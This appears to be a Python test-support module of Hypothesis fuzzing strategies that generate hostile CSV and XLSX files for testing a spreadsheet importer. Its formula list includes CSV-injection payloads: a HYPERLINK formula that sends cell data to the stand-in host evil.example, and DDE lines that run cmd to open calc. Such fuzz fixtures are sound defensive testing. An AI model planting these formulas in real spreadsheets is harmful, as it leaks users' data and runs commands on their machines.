"""Hypothesis strategies for hostile spreadsheet files: random bytes, wrong encodings,
huge cells, formula cells (``=HYPERLINK(...)``) in XLSX, CSV injection, odd digits."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path

import openpyxl
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from tests.support.fuzz import hostile

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik her")',
    "=1+1",
    "=SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=1+1",
]
ODD = [
    "",
    " ",
    "\xa0",
    "²",  # str.isdigit() is True, int() refuses it
    "١٢٣",  # Arabic-Indic digits: int() accepts them
    "−5",  # a real minus sign
    "1e309",
    "NaN",
    "0",
    "-1",
    "\u202e",  # right-to-left override
    "😀",
    "ÆØÅ æøå",
    "a;b,c\"d'e\ne",
    "\x00\x01\x1b",
]
#: A cell of a table: text, or (for XLSX) a real number, date, datetime or time cell,
#: the way Excel stores them; a CSV writes them as ``str()`` does.
Cell = str | float | dt.date | dt.time
ENCODINGS = ["utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16", "mac_roman", "cp865"]


def cells(known: Sequence[Cell] = ()) -> st.SearchStrategy[Cell]:
    """One cell: mostly plausible values for the column, plus everything hostile."""
    parts: list[st.SearchStrategy[Cell]] = [
        st.text(max_size=20),
        st.sampled_from(FORMULAS),
        st.sampled_from(ODD),
        st.integers(0, 6000).map(lambda n: "9" * n),  # huge numbers (> 4300 digits too)
        st.integers(1, 40_000).map(lambda n: "x" * n),  # huge cells
        st.integers(-(2**70), 2**70).map(str),
    ]
    if known:
        parts.insert(0, st.sampled_from(list(known)))
        parts.insert(0, st.sampled_from(list(known)))  # weight towards plausible values
    return st.one_of(parts)


@dataclass(frozen=True)
class Sheet:
    headers: list[str]
    rows: list[list[Cell]]


def sheets(
    columns: Mapping[str, Sequence[Cell]], required: Sequence[str]
) -> st.SearchStrategy[Sheet]:
    """A table whose columns are a random selection (the required ones usually present)."""

    @st.composite
    def build(draw: Callable[..., object]) -> Sheet:
        names = list(columns)
        chosen = [h for h in names if h in required or draw(st.booleans())]
        if draw(st.integers(0, 9)) == 0 and chosen:  # sometimes a required column is missing
            chosen.remove(draw(st.sampled_from(chosen)))
        chosen = list(draw(st.permutations(chosen)))  # type: ignore[arg-type]
        if draw(st.booleans()):
            chosen.append(draw(st.sampled_from(["Ukendt kolonne", "=1+1", "", "Note 2"])))
        n = draw(st.integers(0, 8))
        rows = []
        for _ in range(n):
            kind = draw(st.integers(0, 2))  # plausible row / one hostile cell / all hostile
            plausible = [
                draw(st.sampled_from(list(columns[h])) if columns.get(h) else st.just(""))
                for h in chosen
            ]
            if kind == 0 or not chosen:
                rows.append(plausible)
            elif kind == 1:
                at = draw(st.integers(0, len(chosen) - 1))
                plausible[at] = draw(cells(columns.get(chosen[at], ())))  # type: ignore[assignment]
                rows.append(plausible)
            else:
                rows.append([draw(cells(columns.get(h, ()))) for h in chosen])  # type: ignore[misc]
        for row in rows:  # ragged rows: too few / too many cells
            if draw(st.integers(0, 6)) == 0:
                del row[draw(st.integers(0, len(row))) :]
            elif draw(st.integers(0, 6)) == 0:
                row.append(draw(cells()))  # type: ignore[arg-type]
        return Sheet(chosen, rows)

    return build()


def _csv_bytes(sheet: Sheet, delimiter: str, encoding: str) -> bytes:
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=delimiter)
    writer.writerow(sheet.headers)
    writer.writerows(sheet.rows)
    return buf.getvalue().encode(encoding, errors="replace")


def _xlsx(sheet: Sheet, path: Path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    for row in [sheet.headers, *sheet.rows]:
        # formula strings stay formulas (=HYPERLINK...), the way a hostile file has them
        ws.append(
            [ILLEGAL_CHARACTERS_RE.sub("", c)[:32_767] if isinstance(c, str) else c for c in row]
        )
    wb.save(path)


@st.composite
def hostile_files(
    draw: Callable[..., object], sheet: st.SearchStrategy[Sheet], folder: Path
) -> Path:
    """A file on disk: a CSV in some encoding, an XLSX, garbage (maybe damaged), or one of
    issue 15's crafted spreadsheets (a claimed grid of 17 billion cells, a far cell)."""
    kind = draw(st.sampled_from(["csv", "csv", "xlsx", "xlsx", "bytes", "crafted"]))
    if kind == "crafted":
        build = draw(st.sampled_from([hostile.xlsx_huge_dimension, hostile.xlsx_far_cell]))
        return build(folder)  # type: ignore[operator, no-any-return]
    name = f"fil{draw(st.integers(0, 10**9))}"
    if kind == "bytes":
        path = folder / f"{name}.{draw(st.sampled_from(['csv', 'xlsx', 'txt', 'xls']))}"
        path.write_bytes(draw(st.binary(max_size=3000)))  # type: ignore[arg-type]
        return path
    table: Sheet = draw(sheet)  # type: ignore[assignment]
    if kind == "xlsx":
        path = folder / f"{name}.xlsx"
        _xlsx(table, path)
        if draw(st.integers(0, 9)) == 0:  # a damaged workbook
            data = path.read_bytes()  # (its length varies with the timestamps inside)
            share: int = draw(st.integers(0, 1000))  # type: ignore[assignment]
            path.write_bytes(data[: len(data) * share // 1000])
        return path
    path = folder / f"{name}.csv"
    data = _csv_bytes(
        table,
        draw(st.sampled_from([";", ",", "\t", "|"])),  # type: ignore[arg-type]
        draw(st.sampled_from(ENCODINGS)),  # type: ignore[arg-type]
    )
    if draw(st.integers(0, 5)) == 0:  # a few flipped bytes
        buf = bytearray(data)
        for _ in range(draw(st.integers(1, 5))):  # type: ignore[operator]
            if buf:
                buf[draw(st.integers(0, len(buf) - 1))] = draw(st.integers(0, 255))  # type: ignore[call-overload]
        data = bytes(buf)
    path.write_bytes(data)
    return path


@st.composite
def plain_files(draw: Callable[..., object], sheet: st.SearchStrategy[Sheet], folder: Path) -> Path:
    """The table as an undamaged CSV (some delimiter, a Danish encoding) or XLSX: for
    files whose rows should mostly get past the reader to the importer's own checks."""
    table: Sheet = draw(sheet)  # type: ignore[assignment]
    name = f"fil{draw(st.integers(0, 10**9))}"
    if draw(st.booleans()):
        path = folder / f"{name}.xlsx"
        _xlsx(table, path)
        return path
    path = folder / f"{name}.csv"
    delimiter: str = draw(st.sampled_from([";", ","]))  # type: ignore[assignment]
    encoding: str = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1252"]))  # type: ignore[assignment]
    path.write_bytes(_csv_bytes(table, delimiter, encoding))
    return path
